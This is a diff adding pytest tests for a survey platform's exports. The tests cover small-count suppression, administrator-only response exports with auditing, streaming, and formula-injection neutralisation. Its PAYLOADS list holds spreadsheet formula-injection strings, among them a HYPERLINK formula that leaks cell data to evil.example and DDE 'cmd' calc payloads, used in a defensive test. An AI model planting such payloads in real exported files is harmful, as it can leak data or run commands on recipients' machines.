@@ -1,0 +1,444 @@
+"""Exports: the same gated numbers as the dashboard and the API, nothing below the threshold,
+no cell that can run as a formula, the response-level file for administrators only, streamed."""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+import tracemalloc
+
+import openpyxl
+import pytest
+from sqlalchemy import select
+
+from survey import demo
+from survey.exports import responses as response_export
+from survey.exports.files import Sheet, csv_chunks, write_xlsx
+from survey.extensions import db
+from survey.models import AuditEvent, PendingSubmission, Response, Role, Survey, SurveyStatus
+
+from .journey import TINY, csrf_token, make_survey
+from .staff import PROBATION, make_user, sign_in
+from .test_results_data import insert_responses, random_records
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+PAYLOADS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
+    "+cmd|' /C calc'!A0",
+    "-1+1",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=2+2",
+    "=1+1",
+]
+# (question, breakdown, filter) as the dashboard's ?by=&filter= and the API's ?by=&<dim>=<code>
+QUERIES = [
+    ("E3", "disabled", {}),
+    ("C2", None, {"A5": "cymru_wales"}),
+    ("A7", None, {}),
+    ("C1", None, {"A2": "acute_hospital"}),
+]
+
+
+@pytest.fixture
+def filled(app):
+    """A closed ai-at-work survey with 3,000 synthetic responses, k = 10."""
+    survey = make_survey(
+        app, "filled", app.extensions["questionnaires"]["ai-at-work"], status=SurveyStatus.CLOSED, threshold=10
+    )
+    with app.app_context():
+        demo.add_responses(db.session.get(Survey, survey.id), 3000, 7)
+    return survey
+
+
+@pytest.fixture
+def tiny(app):
+    """A closed survey of the tiny questionnaire with 400 random responses, k = 10: every question
+    type, protected and non-protected breakdowns, small enough that the whole survey exports fast."""
+    survey = make_survey(app, status=SurveyStatus.CLOSED, threshold=10)
+    records = random_records(TINY, 400, 5)
+    insert_responses(app, survey, [(answers, language) for answers, language, _ in records], batch=1)
+    return survey
+
+
+@pytest.fixture
+def admin(app, client):
+    make_user(app, "ada@example.org", Role.ADMIN)
+    sign_in(client, app, "ada@example.org")
+    return client
+
+
+def _csv(response) -> list[dict[str, str]]:
+    assert response.status_code == 200, response.status_code
+    assert response.content_type.startswith("text/csv")
+    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True).removeprefix("\ufeff"), newline="")))
+
+
+def _xlsx(response) -> openpyxl.Workbook:
+    assert response.status_code == 200, response.status_code
+    return openpyxl.load_workbook(io.BytesIO(response.data))
+
+
+def _sheet_dicts(sheet) -> list[dict]:
+    rows = list(sheet.iter_rows(values_only=True))
+    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
+
+
+def _filter_arg(filters: dict[str, str]) -> str:
+    return "".join(f"&filter={dim}:{code}" for dim, code in filters.items())
+
+
+def _number(value: str) -> float | None:
+    try:
+        return float(value)
+    except ValueError:
+        return None
+
+
+def _plain(row: dict) -> dict:
+    """A row with numbers as floats and empty cells as "", as CSV and XLSX both read back."""
+    return {k: "" if v in (None, "") else float(v) if _number(str(v)) is not None else v for k, v in row.items()}
+
+
+# --- the same numbers as the dashboard and the API ----------------------------------------------
+
+
+def _api_cells(body: dict) -> dict[tuple, tuple]:
+    """(question, group, option) -> (count or None, percent or None) from the API's JSON."""
+    out = {}
+    for table in body.get("items") or [body]:
+        question = table.get("question", body["question"])
+        for cell in table["cells"]:
+            out[(question, cell["group"] or "", cell["option"])] = (cell["count"], cell["percent"])
+        for scale in table["scale"]:
+            for side in ("positive", "negative"):
+                out[(question, scale["group"] or "", side)] = (scale[f"{side}_count"], scale[f"{side}_percent"])
+    return out
+
+
+def _export_cells(rows: list[dict]) -> dict[tuple, tuple]:
+    out = {}
+    for row in rows:
+        if row["measure"] in ("answer", "positive", "negative"):
+            option = row["answer_code"] if row["measure"] == "answer" else row["measure"]
+            out[(row["question"], row["group_code"], option)] = (row["count"], row["percent"])
+    return out
+
+
+def _page_counts(html: str) -> tuple[list[str], list[int]]:
+    """Every answer row's count ("fewer than k" or a number), and every group base, in page order."""
+    row = re.compile(
+        r'<th scope="row">[^<]*</th>\s*(?:<td class="num" colspan="4">(fewer than \d+)</td>'
+        r'|<td class="num">\d+%</td>\s*<td class="bar-col"[^>]*>.*?</td>\s*<td class="num">([\d,]+)</td>)',
+        re.S,
+    )
+    counts = [hidden or shown.replace(",", "") for hidden, shown in row.findall(html)]
+    bases = [int(n.replace(",", "")) for n in re.findall(r'<span class="base">\(base ([\d,]+)\)</span>', html)]
+    return counts, bases
+
+
+def test_question_exports_hold_the_dashboards_and_the_apis_numbers(app, admin, filled):
+    hidden = 0
+    for question, by, filters in QUERIES:
+        hidden += _compare(admin, filled, question, by, filters)
+    assert hidden > 0  # the queries were chosen so that the gate hides something
+
+
+def _compare(admin, filled, question: str, by: str | None, filters: dict[str, str]) -> int:
+    """Check one query's CSV against the API, the dashboard and the XLSX; return how many were hidden."""
+    base = f"/organise/surveys/{filled.id}"
+    query = f"?by={by or ''}{_filter_arg(filters)}"
+    rows = _csv(admin.get(f"{base}/exports/q/{question}.csv{query}"))
+    api = admin.get(
+        f"/api/v1/surveys/filled/results/{question}", query_string={**({"by": by} if by else {}), **filters}
+    )
+    assert api.status_code == 200, api.get_json()
+    expected = _api_cells(api.get_json())
+    exported = _export_cells(rows)
+    assert set(exported) == set(expected) and expected, question
+    _check_threshold(rows, ("group_n", "count", "base"), 10)
+    hidden = 0
+    for key, (count, percent) in expected.items():
+        if count is None and percent is None:
+            assert re.fullmatch(r"fewer than \d+", exported[key][0]), key
+            assert exported[key][1] == "", key
+            hidden += 1
+        elif count is None:  # a scale's share, rounded, with its count withheld
+            assert exported[key] == ("", str(percent)), key
+        else:
+            assert exported[key] == (str(count), str(percent)), key
+    # the dashboard: the same counts in the same order, for every group it shows, and the same bases
+    page = admin.get(f"{base}/results/q/{question}{query}")
+    counts, bases = _page_counts(page.text)
+    shown = [r for r in rows if r["measure"] == "answer" and _number(r["group_n"]) is not None]
+    assert counts == [r["count"] for r in shown] and counts
+    group_bases = list(dict.fromkeys((r["question"], r["group_code"], r["group_n"]) for r in shown))
+    assert bases == [int(n) for _, _, n in group_bases]
+    # the workbook holds the very same rows, numbers as numbers
+    book = _xlsx(admin.get(f"{base}/exports/q/{question}.xlsx{query}"))
+    assert [_plain(r) for r in _sheet_dicts(book["Results"])] == [_plain(r) for r in rows]
+    assert question in (admin.get(f"{base}/exports/q/{question}.csv{query}").headers["Content-Disposition"])
+    return hidden
+
+
+def _check_threshold(rows: list[dict], columns: tuple[str, ...], k: int) -> tuple[int, int]:
+    """Assert every number of these columns is at least k and every other value reads "fewer than t"."""
+    numbers = hidden = 0
+    for row in rows:
+        for column in columns:
+            value = row[column]
+            if value in ("", None):
+                continue
+            if isinstance(value, int | float) or _number(value) is not None:
+                assert float(value) >= k, (row, column)
+                numbers += 1
+            else:
+                assert re.fullmatch(r"fewer than (\d+)", value) and int(value.split()[-1]) >= k, (row, column)
+                hidden += 1
+    return numbers, hidden
+
+
+def test_no_exported_number_comes_from_fewer_than_k(app, admin, tiny):
+    base = f"/organise/surveys/{tiny.id}/exports"
+    results = _csv(admin.get(f"{base}/results.csv"))
+    numbers, hidden = _check_threshold(results, ("group_n", "count", "base"), 10)
+    assert numbers > 100 and hidden > 10
+    assert {r["breakdown"] for r in results} == {"", "group", "sector", "nation", "language"}  # none protected
+    assert {r["measure"] for r in results} >= {"answer", "positive", "negative", "median"}
+    overview = _csv(admin.get(f"{base}/responses-by-group.csv"))
+    assert overview[0]["responses"] == "400"
+    assert _check_threshold(overview, ("responses",), 10)[0] > 3
+    streamed = admin.get(f"{base}/survey.xlsx", buffered=False)
+    assert streamed.is_streamed and next(iter(streamed.response)).startswith(b"PK")  # a ZIP, a chunk at a time
+    streamed.close()
+    book = _xlsx(admin.get(f"{base}/survey.xlsx"))
+    assert book.sheetnames == ["About", "Responses", "Results", "Equality flags", "Comments"]
+    sheet = _sheet_dicts(book["Results"])
+    assert [_plain(r) for r in sheet] == [_plain(r) for r in results]
+    assert _check_threshold(sheet, ("group_n", "count", "base"), 10) == (numbers, hidden)
+    assert all(isinstance(r["count"], int) for r in sheet if r["count"] and not isinstance(r["count"], str))
+    # each table is the one the engine gives for that query
+    one = _csv(admin.get(f"{base}/q/confidence.csv?by=sector"))
+    assert one == [r for r in results if r["question"] == "confidence" and r["breakdown"] == "sector"]
+
+
+def test_equality_flags_export_as_the_api_gives_them(app, admin, filled):
+    flags = _csv(admin.get(f"/organise/surveys/{filled.id}/exports/equality-flags.csv"))
+    api = admin.get("/api/v1/surveys/filled/equality").get_json()["flags"]
+    assert flags and [(f["question"], f["group"], f["gap"], f["base"]) for f in api] == [
+        (f["question"], f["group_code"], float(f["gap_points"]), int(f["base"])) for f in flags
+    ]
+    assert _check_threshold(flags, ("base", "everyone_else_base"), 10)[0] == 2 * len(flags)
+
+
+def test_a_survey_with_too_few_responses_exports_no_number(app, admin):
+    survey = make_survey(app, threshold=10)
+    insert_responses(app, survey, [(answers, language) for answers, language, _ in random_records(TINY, 9, 3)], 1)
+    base = f"/organise/surveys/{survey.id}/exports"
+    overview = _csv(admin.get(f"{base}/responses-by-group.csv"))
+    assert overview == [
+        {
+            "breakdown": "",
+            "breakdown_label": "Everyone",
+            "group_code": "",
+            "group": "Everyone",
+            "responses": "fewer than 10",
+        }
+    ]
+    rows = _csv(admin.get(f"{base}/q/confidence.csv"))
+    assert rows and all(r["count"] == "" and r["measure"] == "not shown" and "10" in r["note"] for r in rows)
+    assert _check_threshold(_csv(admin.get(f"{base}/results.csv")), ("group_n", "count", "base"), 10)[0] == 0
+    comments = _csv(admin.get(f"{base}/comments.csv"))
+    assert comments and all(r["comment"] == "" for r in comments)
+
+
+# --- formula injection ---------------------------------------------------------------------------
+
+
+def _add_comments(app, survey, texts: list[str], answers: dict | None = None, key: str = "K1") -> None:
+    """Store released responses that answer an open comment question (ai-at-work's K1) with these texts."""
+    with app.app_context():
+        db.session.add_all(
+            Response(
+                survey_id=survey.id,
+                questionnaire_version_id=survey.questionnaire_version_id,
+                language="en",
+                answers={**(answers or {"A1": "health"}), key: text},
+                batch=99,
+            )
+            for text in texts
+        )
+        db.session.commit()
+
+
+def _inert(value) -> bool:
+    """A cell is inert when it is a number, or text not starting like a formula."""
+    if value is None or isinstance(value, int | float):
+        return True
+    return not value.startswith(FORMULA_STARTS) or _number(value) is not None
+
+
+def test_formula_payloads_in_comments_come_out_inert(app, admin, tiny):
+    _add_comments(app, tiny, PAYLOADS * 3, {"group": "health", "sector": "acute"}, key="team")
+    base = f"/organise/surveys/{tiny.id}/exports"
+    for url in (f"{base}/q/team.csv", f"{base}/comments.csv"):
+        rows = _csv(admin.get(url))
+        written = [r["comment"] for r in rows if r["question"] == "team" and r["comment"]]
+        assert all(_inert(c) for r in rows for c in r.values()), url
+        assert {"'" + p for p in PAYLOADS} <= set(written), url
+    for url in (f"{base}/q/team.xlsx", f"{base}/survey.xlsx"):
+        book = _xlsx(admin.get(url))
+        cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
+        assert cells and all(cell.data_type != "f" and _inert(cell.value) for cell in cells), url
+        written = {c.value for c in cells if c.data_type == "s"}
+        assert {"'" + p.replace("\r", "\n") for p in PAYLOADS} <= written, url  # XML reads CR as LF
+
+
+def test_text_is_made_inert_and_numbers_stay_numbers():
+    rows = [("=1+1", -1.5, -3, "-3 apples", "\x01=1+1", "ok", None)]
+    header = ("a", "b", "c", "d", "e", "f", "g")
+    text = "".join(csv_chunks(header, rows)).removeprefix("\ufeff")
+    assert list(csv.reader(io.StringIO(text, newline="")))[1] == [
+        "'=1+1",
+        "-1.5",
+        "-3",
+        "'-3 apples",
+        "'=1+1",
+        "ok",
+        "",
+    ]
+    buffer = io.BytesIO()
+    write_xlsx([Sheet("Sheet", header, rows)], buffer)
+    cells = next(openpyxl.load_workbook(buffer)["Sheet"].iter_rows(min_row=2))
+    assert [c.value for c in cells] == ["'=1+1", -1.5, -3, "'-3 apples", "'=1+1", "ok", None]
+    assert [c.data_type for c in cells[:4]] == ["s", "n", "n", "s"]
+
+
+# --- the response-level export --------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("role", [Role.ORGANISER, Role.VIEWER])
+def test_the_response_level_export_is_refused_to_organisers_and_viewers(app, client, role):
+    survey = make_survey(app, "probation", app.extensions["questionnaires"]["ai-at-work"], audience=PROBATION)
+    _add_comments(app, survey, ["fine"] * 12)
+    make_user(app, "pat@example.org", role, [PROBATION])
+    sign_in(client, app, "pat@example.org")
+    index = client.get(f"/organise/surveys/{survey.id}/exports/")
+    assert index.status_code == 200 and '/exports/responses"' not in index.text
+    assert client.get(f"/organise/surveys/{survey.id}/exports/responses").status_code == 403
+    token = csrf_token(client.get("/organise/").text)
+    refused = client.post(f"/organise/surveys/{survey.id}/exports/responses", data={"csrf_token": token})
+    assert refused.status_code == 403 and "fine" not in refused.text
+    assert client.get(f"/organise/surveys/{survey.id}/exports/q/C1.csv").status_code == 200  # aggregates: yes
+    with app.app_context():
+        assert db.session.scalar(select(AuditEvent).where(AuditEvent.action == "exported responses")) is None
+
+
+def test_administrators_export_released_responses_after_a_warning_audited(app, admin):
+    survey = make_survey(app, "comments", app.extensions["questionnaires"]["ai-at-work"], threshold=10)
+    texts = [f"comment {i:02d}" for i in range(30)] + PAYLOADS
+    _add_comments(app, survey, texts)
+    with app.app_context():
+        db.session.add(
+            PendingSubmission(
+                survey_id=survey.id,
+                questionnaire_version_id=survey.questionnaire_version_id,
+                language="cy",
+                answers={"A1": "health", "K1": "not released yet"},
+            )
+        )
+        db.session.add(
+            Response(
+                survey_id=survey.id,
+                questionnaire_version_id=survey.questionnaire_version_id,
+                language="en",
+                answers={"K1": "being withdrawn"},
+                batch=99,
+                withdrawing=True,
+            )
+        )
+        db.session.commit()
+        stored = db.session.execute(
+            select(Response.id, Response.answers).where(Response.survey_id == survey.id, ~Response.withdrawing)
+        ).all()
+    url = f"/organise/surveys/{survey.id}/exports/responses"
+    page = admin.get(url)
+    assert page.status_code == 200
+    assert "special category data" in page.text and "must not leave the union" in page.text
+    assert f"{len(texts)} rows" in page.text
+    assert admin.post(url, data={}).status_code == 400  # no CSRF token, no file
+    with app.app_context():
+        assert db.session.scalar(select(AuditEvent).where(AuditEvent.action == "exported responses")) is None
+    rows = _csv(admin.post(url, data={"csrf_token": csrf_token(page.text)}))
+    assert list(rows[0])[:4] == ["language", "questionnaire_version", "A1", "A2"]
+    assert not {"id", "batch", "created_at", "submitted_at"} & set(rows[0])
+    assert [r["K1"] for r in rows] == [
+        ("'" + a["K1"] if a["K1"].startswith(FORMULA_STARTS) else a["K1"])
+        for _, a in sorted(stored, key=lambda s: s[0].hex)
+    ]  # in the order of the random ids, never as stored; formulas made inert
+    assert [r["K1"] for r in rows] != [("'" + t if t.startswith(FORMULA_STARTS) else t) for t in texts]
+    assert all(_inert(value) for row in rows for value in row.values())
+    assert {r["language"] for r in rows} == {"en"} and rows[0]["questionnaire_version"] == "ai-at-work v1"
+    with app.app_context():
+        event = db.session.scalar(select(AuditEvent).where(AuditEvent.action == "exported responses"))
+        assert event.actor == "ada@example.org" and event.survey_id == survey.id
+        assert event.detail == {"rows": len(texts)}
+
+
+# --- streamed, in bounded memory -------------------------------------------------------------------
+
+
+def test_exports_are_streamed(app, admin, filled):
+    url = f"/organise/surveys/{filled.id}/exports/responses"
+    token = csrf_token(admin.get(url).text)
+    response = admin.post(url, data={"csrf_token": token}, buffered=False)
+    assert response.is_streamed and response.status_code == 200
+    assert response.headers["Cache-Control"] == "no-store" and "attachment" in response.headers["Content-Disposition"]
+    chunks = iter(response.response)
+    header = next(chunks)
+    first = next(chunks)
+    assert header.startswith("\ufefflanguage,".encode()) and first.count(b"\n") >= 1000
+    rest = b"".join(chunks)
+    assert first.count(b"\n") + rest.count(b"\n") >= 3000  # rows arrived before the last was read
+    response.close()
+
+
+def _traced_export(admin, survey) -> tuple[int, int]:
+    """Download a survey's response-level CSV; return its size and the peak Python memory traced."""
+    url = f"/organise/surveys/{survey.id}/exports/responses"
+    response = admin.post(url, data={"csrf_token": csrf_token(admin.get(url).text)}, buffered=False)
+    tracemalloc.start()
+    try:
+        size = sum(len(chunk) for chunk in response.response)
+        return size, tracemalloc.get_traced_memory()[1]
+    finally:
+        tracemalloc.stop()
+        response.close()
+
+
+def test_the_response_level_export_streams_in_bounded_memory(app, admin, monkeypatch):
+    """Five times the rows, about the same peak memory: rows are read a partition at a time and
+    never kept (with partitions of 500, so that a moderate dataset spans many of them)."""
+    monkeypatch.setattr(response_export, "READ_CHUNK", 500)
+    small = make_survey(app, "small", app.extensions["questionnaires"]["ai-at-work"], threshold=10)
+    large = make_survey(app, "large", app.extensions["questionnaires"]["ai-at-work"], threshold=10)
+    with app.app_context():
+        demo.add_responses(db.session.get(Survey, small.id), 3_000, 11)
+        demo.add_responses(db.session.get(Survey, large.id), 15_000, 12)
+    small_size, small_peak = _traced_export(admin, small)
+    large_size, large_peak = _traced_export(admin, large)
+    assert large_size > 4 * small_size
+    assert large_peak < 1.25 * small_peak + 512 * 1024, (small_peak, large_peak)  # kept rows: 5 times
+
+
+def test_the_dashboard_links_to_the_exports(app, admin, filled):
+    overview = admin.get(f"/organise/surveys/{filled.id}/results/").text
+    assert f"/organise/surveys/{filled.id}/exports/" in overview
+    question = admin.get(f"/organise/surveys/{filled.id}/results/q/E3?by=disabled&filter=A5:cymru_wales").text
+    assert re.search(r"/exports/q/E3\.csv\?by=disabled&amp;filter=A5(:|%3A)cymru_wales", question)
+    assert re.search(r"/exports/q/E3\.xlsx\?by=disabled&amp;filter=A5(:|%3A)cymru_wales", question)
+    exports = admin.get(f"/organise/surveys/{filled.id}/exports/")
+    assert exports.status_code == 200 and '/exports/responses"' in exports.text
+    with app.app_context():
+        assert db.session.scalar(select(AuditEvent).where(AuditEvent.action == "exported responses")) is None
